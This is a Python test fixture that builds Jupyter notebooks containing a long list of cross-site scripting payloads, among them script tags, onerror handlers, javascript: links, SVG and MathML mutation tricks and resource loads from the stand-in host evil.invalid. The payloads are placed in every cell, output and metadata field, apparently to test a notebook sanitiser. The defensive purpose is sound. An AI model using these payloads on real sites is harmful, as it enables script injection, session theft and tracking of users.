# ruff: noqa: E501 (a payload is one line)
"""What a stranger may write, and every place of a notebook where it may be written."""

from collections.abc import Callable, Iterator
from typing import Any

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

EVIL = "http://evil.invalid"

# Each of them runs a script, opens a dialog or asks the network, put bare into a page: a control proves it.
PAYLOADS = {
    "script": "<script>hit(1)</script>",
    "script from elsewhere": f"<script src={EVIL}/a.js></script>",
    "script as a module": "<script type=module>hit(1)</script>",
    "script in capitals": "<ScRiPt >hit(1)</sCrIpT >",
    "script with a slash": "<script/x>hit(1)</script>",
    "dialog": "<script>alert(1)</script>",
    "image that fails": "<img src=x onerror=hit(1)>",
    "image without spaces": "<img/src='x'/onerror=hit(1)>",
    "image that loads": "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=hit(1) onerror=hit(1)>",
    "image with a line break": "<img\nsrc=x\nonerror\n=\nhit(1)>",
    "handler in codes": "<img src=x onerror=&#104;&#105;&#116;(1)>",
    "remote image": f"<img src={EVIL}/a.png>",
    "remote image without a scheme": "<img src=//evil.invalid/a.png>",
    "remote image set": f"<img srcset='{EVIL}/a.png 1x'>",
    "picture": f"<picture><source srcset={EVIL}/a.png><img src=x></picture>",
    "out of an attribute": "\"'><img src=x onerror=hit(1)>",
    "out of an attribute by a handler": 'x" onerror="hit(1)" y="',
    "out of a comment": "--><img src=x onerror=hit(1)><!--",
    "out of a title": "</title><img src=x onerror=hit(1)>",
    "out of a style": "</style><img src=x onerror=hit(1)>",
    "out of a text area": "</textarea></pre></code><img src=x onerror=hit(1)>",
    "svg": "<svg onload=hit(1)>",
    "svg with a script": "<svg><script>hit(1)</script></svg>",
    "svg with an animation": "<svg><animate onbegin=hit(1) attributeName=x dur=1s></svg>",
    "svg with foreign content": "<svg><foreignObject><img src=x onerror=hit(1)></foreignObject></svg>",
    "svg with a remote image": f"<svg><image href={EVIL}/a.png></image></svg>",
    "math with a link": "<math><mtext><a href=javascript:hit(1)>x</a></mtext></math>",
    "frame": "<iframe srcdoc='<script>parent.hit(1)</script>'></iframe>",
    "frame from elsewhere": f"<iframe src={EVIL}></iframe>",
    "frame with a script": "<iframe src=javascript:parent.hit(1)></iframe>",
    "object": "<object data=data:text/html,x><img src=x onerror=hit(1)></object>",
    "object from elsewhere": f"<object data={EVIL}/a.html></object>",
    "embed": f"<embed src={EVIL}/a.html>",
    "link to a script": "<a href=javascript:hit(1)>x</a>",
    "link to a script with a tab": "<a href='java\tscript:hit(1)'>x</a>",
    "link to a script in codes": "<a href='&#106;avascript&colon;hit(1)'>x</a>",
    "link to a script after a control": "<a href='&#1;javascript:hit(1)'>x</a>",
    "area": "<map><area href=javascript:hit(1)></map>",
    "form": f"<form action={EVIL}><button>x</button></form>",
    "form with a script": "<form action=javascript:hit(1)><button>x</button></form>",
    "button with a script": "<form><button formaction=javascript:hit(1)>x</button></form>",
    "field in focus": "<input autofocus onfocus=hit(1)>",
    "details": "<details open ontoggle=hit(1)><summary>x</summary></details>",
    "video": "<video><source onerror=hit(1)></video>",
    "audio": "<audio src=x onerror=hit(1)>",
    "poster": f"<video poster={EVIL}/a.png></video>",
    "track": f"<audio src={EVIL}/a.mp3 autoplay></audio>",
    "body": "<body onload=hit(1)>",
    "animation": "<style>@keyframes a{}</style><p style=animation:a onanimationstart=hit(1)>x</p>",
    "style from elsewhere": f"<link rel=stylesheet href={EVIL}/a.css>",
    "style that imports": f"<style>@import '{EVIL}/a.css';</style>",
    "style with a picture": f"<p style='background:url({EVIL}/a.png)'>x</p>",
    "style element with a picture": f"<style>p,body{{background:url({EVIL}/a.png)}}</style><p>x</p>",
    "style with a font": f"<style>@font-face{{font-family:a;src:url({EVIL}/a)}}p{{font-family:a}}</style><p>x</p>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "icon and preload": f"<link rel=preload as=image href={EVIL}/a.png>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=hit(1)>"></noscript>',
    "template": "<template><b></template><img src=x onerror=hit(1)>",
    "half a tag": "<img src=x onerror=hit(1) <b",
    "nested half tags": "<<script>script>hit(1)<</script>/script><img src=x onerror=hit(1)//",
    "null": "<img src=x onerror=hit(1)\x0b>",
}  # fmt: skip
# Harmless as they come, alive when a page is read, written and read again.
MUTATIONS = {
    "mutation by svg": "<svg></p><style><a id='</style><img src=x onerror=hit(1)>'>",
    "mutation by a form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit(1)>",
    "mutation by noframes": "<noframes><p title='</noframes><img src=x onerror=hit(1)>'></noframes>",
    "mutation by a table": "<table><tr><td><svg><desc><table><style><img title='</style><img src=x onerror=hit(1)>'>",
}  # fmt: skip
# A policy in a page can't forbid that the page is left: here the cleaner stands alone.
LEAVES = {"refresh"}

Place = Callable[[str], "list[NotebookNode] | dict[str, Any]"]
_RICH = (
    "text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml", "image/png", "image/jpeg", "image/gif",
    "application/javascript", "application/json", "application/pdf", "text/vnd.mermaid", "application/vnd.vegalite.v5+json",
    "application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json", "text/x-unheard-of",
)  # fmt: skip


def _shown(kind: str, text: str, **metadata: Any) -> list[NotebookNode]:
    output = new_output("display_data", data={kind: text}, metadata=metadata)
    return [new_code_cell("1", outputs=[output])]


def _marked(kind: str, **marks: Any) -> dict[str, Any]:
    base = {"grade": False, "solution": False, "task": False, "locked": False, "schema_version": 3}
    return {"nbgrader": {**base, "grade_id": kind, "cell_type": "code", **marks}}


def _test(text: str) -> list[NotebookNode]:
    cell = new_code_cell(text, metadata=_marked("test-a", grade=True, locked=True, points=1, score=0))
    cell.outputs = [
        new_output("stream", text=text),
        new_output("error", ename=text, evalue=text, traceback=[text]),
        new_output("execute_result", data={"text/plain": text, "text/html": text}),
    ]
    return [cell]


def _error(text: str) -> list[NotebookNode]:
    lines = [f"\x1b[0;31m{text}\x1b[0m", f"\x1b]8;;{text}\x07{text}", f"\x1b[38;2;1;2;{text}m{text}"]
    return [new_code_cell("1", outputs=[new_output("error", ename=text, evalue=text, traceback=lines)])]


def _attached(text: str) -> list[NotebookNode]:
    bundle = {
        "a.png": {"image/png": text}, "b.svg": {"image/svg+xml": text}, text: {text: text}, "c": {"text/html": text},
    }  # fmt: skip
    words = f"![a](attachment:a.png) ![b](attachment:b.svg) ![c](attachment:c) ![d](<attachment:{text}>)"
    return [new_markdown_cell(words, attachments=bundle)]


def _markdown(text: str) -> list[NotebookNode]:
    forms = (
        f"[x]({text})", f"[x](<{text}>)", f"![{text}](x)", f"![x](<{text}>)", f'[x](http://a.invalid "{text}")',
        f"<{text}>", f"# {text}", f"```{text}\n{text}\n```", f"    {text}", f"`{text}`", f"${text}$", f"$$\\text{{{text}}}$$",
        f"$\\href{{{text}}}{{x}} \\class{{{text}}}{{x}} \\style{{{text}}}{{x}} \\color{{{text}}}x$",
        f"\\begin{{align}}{text}\\end{{align}}", f"\\\\({text}\\\\)", f"- [ ] {text}", f"> {text}", f"term\n: {text}",
        f"[r]\n\n[r]: {text}", f"|a|\n|-|\n|{text}|", f"```mermaid\n{text}\n```", f"<p title='$x$ {text}'>$y$</p>",
    )  # fmt: skip
    return [new_markdown_cell(form) for form in forms]


PLACES: dict[str, Place] = {
    "markdown": lambda text: [new_markdown_cell(text), new_markdown_cell(f"words\n\n{text}\n\nwords")],
    "markdown forms": _markdown,
    "answer in words": lambda text: [
        new_markdown_cell(text, metadata=_marked("words", solution=True, grade=True, points=2, score=0))
    ],
    "code": lambda text: [new_code_cell(text), new_code_cell(f"%%html\n{text}"), new_code_cell(f"# {text}")],
    "raw": lambda text: [new_raw_cell(text, metadata={"format": "text/html", "raw_mimetype": "text/html"})],
    "stdout": lambda text: [new_code_cell("1", outputs=[new_output("stream", text=text)])],
    "stderr": lambda text: [new_code_cell("1", outputs=[new_output("stream", name="stderr", text=text)])],
    "error": _error,
    "test cell": _test,
    "attachment": _attached,
    "size of a picture": lambda text: _shown("image/png", "iVBORw0KGgo=", **{"image/png": {"width": text, "alt": text}}),
    "type of an output": lambda text: _shown(text, text),
    "comment": lambda text: [
        new_code_cell("1", metadata=_marked("c", solution=True, comment=text))
    ],
    "grade id": lambda text: [new_code_cell("1", metadata=_marked(text, solution=True, grade=True, points=1, score=1))],
    "cell": lambda text: [
        NotebookNode({**new_code_cell("1"), "id": text, "metadata": {"tags": [text], "name": text, text: text}})
    ],
    "metadata": lambda text: {
        "title": text, "authors": [{"name": text}], "language": text,
        "language_info": {"name": text, "pygments_lexer": text, "codemirror_mode": text},
        "kernelspec": {"name": text, "display_name": text, "language": text},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {text: text}, "x": text}},
    },
    "state": lambda text: {"coursekit": {"state": text, "reason": text, "faults": [text], "guesses": [text]}},
    "faults": lambda text: {
        "coursekit": {"state": "graded with faults", "reason": text, "faults": [text], "guesses": [text]}
    },
}  # fmt: skip
for _kind in _RICH:
    PLACES[f"output {_kind}"] = lambda text, kind=_kind: _shown(kind, text)  # type: ignore[misc]


def notebook(texts: "Callable[[str], str]", *places: str) -> NotebookNode:
    """Return a notebook with a text in each of some places, or in all of them."""
    found = new_notebook(metadata={"kernelspec": {"name": "python3", "display_name": "Python"}})
    for name in places or PLACES:
        put = PLACES[name](texts(name))
        if isinstance(put, dict):
            found.metadata.update(put)
        else:
            found.cells.extend(put)
    return found


def everything() -> Iterator[tuple[str, str]]:
    """Yield the name and the text of every payload."""
    yield from PAYLOADS.items()
    yield from MUTATIONS.items()
